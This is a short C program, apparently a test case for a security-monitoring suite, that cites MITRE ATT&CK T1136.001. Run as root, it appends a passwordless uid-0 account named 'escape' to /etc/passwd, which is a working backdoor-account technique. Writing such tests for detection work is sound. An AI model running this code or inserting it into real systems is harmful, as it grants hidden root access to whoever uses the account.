// tries: to add a user without a password
// works: root writes to /etc
// see: MITRE ATT&CK T1136.001
// goal: change
// user: root
// watch: /etc/passwd /etc/shadow
// alone: it is the machine's
#include "../kit.h"

int main(void)
{
	int fd = MUST(open("/etc/passwd", O_WRONLY | O_APPEND));

	return MUST(dprintf(fd, "escape::0:0::/:/bin/sh\n")) < 0;
}
